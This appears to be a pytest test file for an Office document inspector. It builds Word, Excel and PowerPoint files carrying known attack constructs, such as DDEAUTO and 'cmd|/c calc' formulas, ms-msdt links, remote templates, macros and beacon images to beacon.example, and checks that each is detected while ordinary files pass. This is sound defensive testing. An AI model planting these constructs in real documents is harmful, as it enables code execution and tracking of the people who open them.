"""What is active in an Office file is found by its structure, in any spelling, and what is ordinary is not.

The attacks are those of the reliability trial of 28 November 2026 and of the manuals of Office (ECMA-376): each is a
document that programs of today write, with one thing put into it.
"""

import io
import os
import subprocess
import zipfile
from functools import cache
from pathlib import Path

import docx
import openpyxl
import pptx
import pytest
import xlsxwriter
from typer.testing import CliRunner

from ennum_stats.cli import app
from ennum_stats.files import foreign
from ennum_stats.files.office import inspect_office
from ennum_stats.imports.spreadsheets.bounds import FileRefused
from ennum_stats.imports.spreadsheets.reader import read_file
from ennum_stats.languages import LANGUAGES, translate
from ennum_stats.office.fill import fill
from ennum_stats.office.package import DocumentRefused
from ennum_stats.office.refresh import refresh
from ennum_stats.office.templates import open_template
from ennum_stats.office.texts.readers import read_text

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
BEACON = "http://beacon.example/x"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


@cache
def plain(kind):
    """The bytes of a document that holds a word."""
    held = io.BytesIO()
    if kind == "docx":
        made = docx.Document()
        made.add_paragraph("Un mot")
    elif kind == "pptx":
        made = pptx.Presentation()
        made.slides.add_slide(made.slide_layouts[0])
    else:
        made = openpyxl.Workbook()
        made.active["A1"] = "Un mot"
    made.save(held)
    return held.getvalue()


def parts_of(kind):
    with zipfile.ZipFile(io.BytesIO(plain(kind))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return held.getvalue()


def with_part(kind, name, data, content_type=""):
    parts = parts_of(kind) | {name: data}
    if content_type:
        override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
        types = parts["[Content_Types].xml"].decode().replace("</Types>", override)
        parts["[Content_Types].xml"] = types.encode()
    return zipped(parts)


def relations(kind, target, *, mode="External"):
    outside = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r9" Type="{kind}" Target="{target}"'
        f"{outside}/></Relationships>"
    )


def related(kind, target, *, mode="External", coding="utf-8", name="word/_rels/header9.xml.rels"):
    text = relations(kind, target, mode=mode)
    return with_part("docx", name, f'<?xml version="1.0" encoding="{coding}"?>{text}'.encode(coding))


def in_text(markup):
    """A document with markup at the end of its text."""
    parts = parts_of("docx")
    text = parts["word/document.xml"].decode()
    parts["word/document.xml"] = text.replace("<w:sectPr", f"<w:p>{markup}</w:p><w:sectPr", 1).encode()
    return zipped(parts)


def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return in_text(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def nested(inner, after):
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    code = "<w:r><w:instrText>{}</w:instrText></w:r>".format
    return in_text(f"{begin}{begin}{code(inner)}{end}{code(after)}{end}")


def formula(text, **more):
    parts = parts_of("xlsx")
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    cell = f'<row r="2"><c r="A2"><f>{text}</f><v>1</v></c></row></sheetData>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", cell).encode()
    return zipped(parts | more)


def named(markup):
    parts = parts_of("xlsx")
    book = parts["xl/workbook.xml"].decode().replace("<definedNames/>", "").replace("<definedNames />", "")
    parts["xl/workbook.xml"] = book.replace(
        "</sheets>", f"</sheets><definedNames>{markup}</definedNames>"
    ).encode()
    return zipped(parts)


def chart_over(inner):
    """A document whose chart has a workbook of its own."""
    parts = parts_of("docx")
    types = parts["[Content_Types].xml"].decode()
    kind = "application/vnd.openxmlformats-officedocument."
    more = (
        f'<Override PartName="/word/charts/chart1.xml" ContentType="{kind}drawingml.chart+xml"/>'
        f'<Default Extension="xlsx" ContentType="{kind}spreadsheetml.sheet"/></Types>'
    )
    return zipped(parts | {
        "[Content_Types].xml": types.replace("</Types>", more).encode(),
        "word/charts/chart1.xml": b"<c/>",
        "word/charts/_rels/chart1.xml.rels":
            relations(OFFICE + "package", "../embeddings/a.xlsx", mode="").encode(),
        "word/embeddings/a.xlsx": inner,
    })  # fmt: skip


IMAGE = OFFICE + "image"
ACTIVE = {
    "picture of the web": (lambda: related(IMAGE, BEACON), "outside"),
    "picture, relations in UTF-16": (lambda: related(IMAGE, BEACON, coding="utf-16"), "outside"),
    "picture, mode by reference": (lambda: related(IMAGE, BEACON, mode="&#69;xternal"), "outside"),
    "picture, part in capitals": (
        lambda: related(IMAGE, BEACON, name="word/_rels/header9.xml.RELS"), "outside"),
    "picture, part without suffix": (lambda: related(IMAGE, BEACON, name="word/h.xml"), "outside"),
    "looks like a hyperlink": (lambda: related("urn:frame/hyperlink", BEACON), "outside"),
    "frame": (lambda: related(OFFICE + "frame", BEACON), "outside"),
    "mail merge": (lambda: related(OFFICE + "mailMergeSource", r"file:///\\a\b.mdb"), "outside"),
    "template of the web": (lambda: related(OFFICE + "attachedTemplate", "https://a.example/x.dotm"), "template"),
    "template of a server": (lambda: related(OFFICE + "attachedTemplate", r"file:///\\a\x.dotm"), "template"),
    "link that runs": (lambda: related(OFFICE + "hyperlink", "ms-msdt:/id%20PCW"), "link"),
    "link with a script": (lambda: related(OFFICE + "hyperlink", "java&#9;script:x"), "link"),
    "link to a program": (lambda: related(OFFICE + "hyperlink", r"\\a\b\c.lnk"), "link"),
    "OLE": (lambda: with_part("docx", "word/o.bin", OLE, "application/vnd.openxmlformats-officedocument.oleObject"),
        "embedded"),
    "OLE as a picture": (lambda: with_part("docx", "word/media/o.png", OLE, "image/png"), "embedded"),
    "a document in the text": (
        lambda: related(OFFICE + "package", "document.xml", mode=""), "embedded"),
    "OLE in the markup": (lambda: in_text('<w:object><o:OLEObject xmlns:o="x" ProgID="Word"/></w:object>'),
        "embedded"),
    "ActiveX": (lambda: with_part("docx", "word/x.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"), "control"),
    "ActiveX relation": (lambda: related(OFFICE + "control", "x.xml", mode=""), "control"),
    "macros": (lambda: with_part("docx", "word/vbaProject.bin", b"x"), "macros"),
    "macros by another name": (
        lambda: with_part("docx", "word/m.bin", b"x", "application/vnd.ms-office.vbaProject"), "macros"),
    "macros by relation": (lambda: related(MICROSOFT + "vbaProject", "m.bin", mode=""), "macros"),
    "sheet of macros": (
        lambda: with_part("xlsx", "xl/x.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml"), "macros"),
    "name of a macro": (lambda: named('<definedName name="Auto_Open" xlm="1">S!A1</definedName>'), "macros"),
    "ribbon": (lambda: related(MICROSOFT + "ui/extensibility", "customUI/x.xml", mode=""), "addin"),
    "ribbon part": (lambda: with_part("docx", "customUI/x.xml", b"<customUI onLoad='a'/>"), "addin"),
    "add-in": (lambda: with_part("docx", "word/w.xml", b"<we:webextension xmlns:we='x'/>"), "addin"),
    "HTML waits": (lambda: with_part("docx", "word/c.htm", b"<html/>", "text/html"), "imported"),
    "altChunk": (lambda: in_text("</w:p><w:altChunk/><w:p>"), "imported"),
    "DDE": (lambda: field(r"DDEAUTO c:\\cmd.exe"), "field"),
    "DDE over two runs": (lambda: field("DD", "EAUTO a"), "field"),
    "DDE by reference": (lambda: field("&#68;DEAUTO a"), "field"),
    "DDE of a field": (lambda: nested("QUOTE 68 68 69", "AUTO a"), "field"),
    "DDE in short": (lambda: in_text('<w:fldSimple w:instr="DDE a"/>'), "field"),
    "INCLUDEPICTURE": (lambda: field(f'INCLUDEPICTURE "{BEACON}" \\d'), "field"),
    "INCLUDETEXT": (lambda: field(r'INCLUDETEXT "\\\\a\\b"'), "field"),
    "LINK": (lambda: field(r"LINK Excel.Sheet.8 \\\\a\\b"), "field"),
    "a button that runs": (lambda: field("MACROBUTTON Run Click"), "field"),
    "a field's link that runs": (lambda: field('HYPERLINK "vbscript:x"'), "link"),
    "WEBSERVICE": (lambda: formula(f'_xlfn.WEBSERVICE("{BEACON}")'), "WEBSERVICE"),
    "WEBSERVICE by reference": (lambda: formula("_xlfn.WEBSERV&#73;CE(A1)"), "WEBSERVICE"),
    "a picture by formula": (lambda: formula("_xlfn.IMAGE(A1)"), "IMAGE"),
    "another program": (lambda: formula('RTD("a","b")'), "RTD"),
    "DDE formula": (lambda: formula("cmd|'/c calc'!A0"), "formula"),
    "DDE in a name": (lambda: named("<definedName name=\"a\">'cmd'|'/c calc'!A0</definedName>"), "formula"),
    "a workbook elsewhere": (lambda: formula("'\\\\a\\[b.xlsx]S'!A1"), "formula"),
    "external links": (lambda: with_part("xlsx", "xl/externalLinks/externalLink1.xml", b"<a/>"), "external"),
    "connections": (lambda: with_part("xlsx", "xl/connections.xml", b"<a/>"), "connection"),
    "Power Query": (lambda: with_part("xlsx", "customXml/i.xml", b'<DataMashup xmlns="x"/>'), "connection"),
    "in the workbook of a chart": (lambda: chart_over(with_part("xlsx", "xl/vbaProject.bin", b"x")), "macros"),
    "script in a picture": (
        lambda: with_part("docx", "word/a.svg", b"<svg><script/></svg>", "image/svg+xml"), "macros"),
    "picture in a picture": (
        lambda: with_part("docx", "word/a.svg", f'<svg><image href="{BEACON}"/></svg>'.encode(), "image/svg+xml"),
        "outside"),
    "a slide that runs": (
        lambda: with_part("pptx", "ppt/x.xml", b'<p><hlinkClick action="ppaction://program?a"/></p>'), "link"),
    "what nobody knows": (lambda: with_part("docx", "word/x.bin", b"x", "application/x-new"), "unknown"),
    "a type of documents, in UTF-16": (
        lambda: with_part("docx", "word/e.xml", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>"
            .encode("utf-16")), "entities"),
    "two parts of one name": (lambda: with_part("docx", "WORD/document.xml", b"<a/>"), "bomb"),
}  # fmt: skip


def seen(data):
    answer = foreign.answer(data)
    strange = [name.split(".")[-1] for name, _ in answer.get("functions", ())]
    return {answer.get("fault"), *(kind for kind, *_ in answer.get("found", ())), *strange}


@pytest.mark.parametrize("attack", ACTIVE)
def test_what_is_active_is_found_however_it_is_spelled(attack):
    make, kind = ACTIVE[attack]
    assert kind in seen(make())


def with_formulas(path):
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("a|b (1)")
        sheet.write_formula(0, 0, "=_xlfn.XLOOKUP(1,A2:A3,B2:B3)+SUM(A2:A3)", None, 1)
        sheet.write_formula(1, 0, "=IF('a|b (1)'!A1>1,\"a|b C:\\\",2)")
        sheet.write_url(2, 0, "https://example.org/x")
        sheet.write_comment(3, 0, "Une note")
        chart = book.add_chart({"type": "bar"})
        chart.add_series({"values": "='a|b (1)'!$A$1:$A$2"})
        sheet.insert_chart(4, 0, chart)
        book.define_name("Total", "='a|b (1)'!$A$1")


def test_what_is_ordinary_is_let_through(tmp_path):
    with_formulas(tmp_path / "a.xlsx")
    workbook = (tmp_path / "a.xlsx").read_bytes()
    ordinary = [
        plain("docx"), plain("pptx"), workbook, chart_over(workbook), field("MACROBUTTON NoMacro Cliquez"),
        field('TOC \\o "1-3" \\h'), field("IF {x}"), field('HYPERLINK "https://example.org/"'),
        related(OFFICE + "hyperlink", "mailto:a@example.org"),
        related(OFFICE + "attachedTemplate", r"file:///C:\Modèles\Normal.dotm"),
    ]  # fmt: skip
    for data in ordinary:
        inspection = inspect_office(data)
        assert [str(finding.found) for finding in inspection.findings] == []
        assert inspection.parts > 5
    assert inspect_office(workbook).links == ("https://example.org",)


def test_every_kind_is_told_in_words_of_each_language():
    for make, kind in ACTIVE.values():
        if kind in ("link", "WEBSERVICE", "control", "bomb"):
            finding = inspect_office(make()).refusal
            sentences = {translate(finding.found, language) for language in LANGUAGES}
            assert len(sentences) == len(LANGUAGES)
            assert all(translate(finding.remedy, language) for language in LANGUAGES)


def cut(kind, part, to):
    parts = parts_of(kind)
    return zipped(parts | {part: parts[part][:to]})


def without(kind, part):
    return zipped({name: data for name, data in parts_of(kind).items() if name != part})


def flipped():
    """A document with one wrong byte in its packed text."""
    data = bytearray(plain("docx"))
    data[data.index(b"word/document.xml") + 40] ^= 0xFF
    return bytes(data)


@pytest.mark.parametrize(
    ("make", "part"),
    [
        (flipped, ""),
        (lambda: plain("docx")[:4000], ""),
        (lambda: cut("docx", "word/theme/theme1.xml", 900), "word/theme/theme1.xml"),
        (lambda: cut("docx", "word/fontTable.xml", 300), "word/fontTable.xml"),
        (lambda: without("docx", "word/styles.xml"), "word/styles.xml"),
        (lambda: without("pptx", "ppt/presentation.xml"), "ppt/presentation.xml"),
        (lambda: without("pptx", "ppt/slides/slide1.xml"), "ppt/slides/slide1.xml"),
        (lambda: without("xlsx", "xl/worksheets/sheet1.xml"), "xl/worksheets/sheet1.xml"),
        (lambda: without("docx", "_rels/.rels"), "_rels/.rels"),
        (lambda: without("docx", "[Content_Types].xml"), ""),
        (lambda: b"", ""),
    ],
)
def test_damage_is_told_with_its_part(make, part):
    answer = foreign.answer(make())
    assert (answer["fault"], answer["part"]) == ("damaged", part)


def test_any_wrong_byte_is_the_fault_of_the_file():
    """Of places all over the packed bytes each is damage, or harms nothing."""
    data = plain("docx")
    for place in range(0, len(data), len(data) // 40):
        wrong = bytearray(data)
        wrong[place] ^= 0x55
        assert foreign.answer(bytes(wrong))["fault"] in ("", "damaged", "bomb", "entities")


def test_a_file_that_takes_all_memory_ends_its_own_process_alone(monkeypatch):
    """The process that looks is given less than the file unpacks to: this one goes on, and says so."""
    parts = parts_of("docx") | {"word/big.xml": b"<a>" + os.urandom(10_000_000).hex().encode() + b"</a>"}
    place = Path(foreign.__file__)
    small = f"import sys; sys.path.insert(0, {str(place.parent)!r}); import foreign; foreign._MEMORY = 50_000_000; "
    run = subprocess.run

    def with_less(command, **options):
        assert command[-1] == str(place)
        return run([*command[:-1], "-c", small + "foreign._main()"], **options)

    monkeypatch.setattr("ennum_stats.files.office.subprocess.run", with_less)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert str(inspect_office(held.getvalue()).refusal.found).startswith("No Office program")
    assert inspect_office(plain("docx")).findings == ()


def test_inspect_names_what_a_file_would_do_and_what_to_do(tmp_path):
    path = tmp_path / "reçu.docx"
    path.write_bytes(field("DDEAUTO a"))
    result = CliRunner().invoke(app, ["inspect", str(path)])
    assert result.exit_code == 1
    assert "Un champ de ce document" in result.output
    assert "Ctrl+Maj+F9" in result.output
    path.write_bytes(plain("docx"))
    result = CliRunner().invoke(app, ["inspect", str(path)])
    assert (result.exit_code, "rien n’appelle ailleurs" in result.output) == (0, True)
    path.write_bytes(OLE)
    assert CliRunner().invoke(app, ["inspect", str(path)]).exit_code == 2


def test_each_reader_has_the_gate(ledger_at, tmp_path):
    """What fills in, brings up to date, takes a look, judges and imports refuses the same thing in the same words."""
    word, book = tmp_path / "a.docx", tmp_path / "a.xlsx"
    word.write_bytes(field("DDEAUTO a"))
    book.write_bytes(formula("cmd|'/c calc'!A0"))
    ledger = ledger_at("2020-10-31")
    for read in (
        lambda: fill(ledger, word), lambda: refresh(ledger, word), lambda: open_template(word),
        lambda: read_text(word.name, word.read_bytes()),
    ):  # fmt: skip
        with pytest.raises(DocumentRefused, match="A field of this document"):
            read()
    with pytest.raises(DocumentRefused, match="A formula of this workbook"):
        fill(ledger, book)
    with pytest.raises(FileRefused, match="A formula of this workbook"):
        read_file(book)


def test_a_template_elsewhere_is_left_out_of_what_is_filled_in(ledger_at, tmp_path):
    path = tmp_path / "a.docx"
    parts = parts_of("docx")
    settings = parts["word/settings.xml"].decode()
    tag = f'<w:attachedTemplate xmlns:r="{OFFICE[:-1]}" r:id="r9"/></w:settings>'
    parts["word/settings.xml"] = settings.replace("</w:settings>", tag).encode()
    parts["word/_rels/settings.xml.rels"] = relations(
        OFFICE + "attachedTemplate", "https://a.example/x"
    ).encode()
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"Un mot", b"{{total_investment}}")
    path.write_bytes(zipped(parts))
    result = fill(ledger_at("2020-10-31"), path)
    assert ["https://a.example/x" in str(each) for each in result.left_out] == [True]
    filled = result.path.read_bytes()
    assert inspect_office(filled).findings == ()
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
